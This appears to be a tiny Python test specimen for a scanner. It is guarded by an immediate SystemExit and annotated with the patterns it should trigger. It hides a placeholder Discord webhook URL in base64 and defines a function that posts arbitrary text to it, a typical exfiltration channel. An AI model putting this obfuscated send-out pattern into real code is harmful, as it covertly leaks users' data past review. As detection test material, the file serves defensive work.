raise SystemExit("specimen: not to be run")
import base64
import urllib.request as web

WHERE = base64.b64decode("aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMDAwMDAwMDAwMDAwMDAwMDAwL3NwZWNpbWVuLXNwZWNpbWVuLXNwZWNpbWVu").decode()  # match: encoded-literal

def tell(text):
    web.urlopen(web.Request(WHERE, data=text.encode()))  # match: discord-webhook
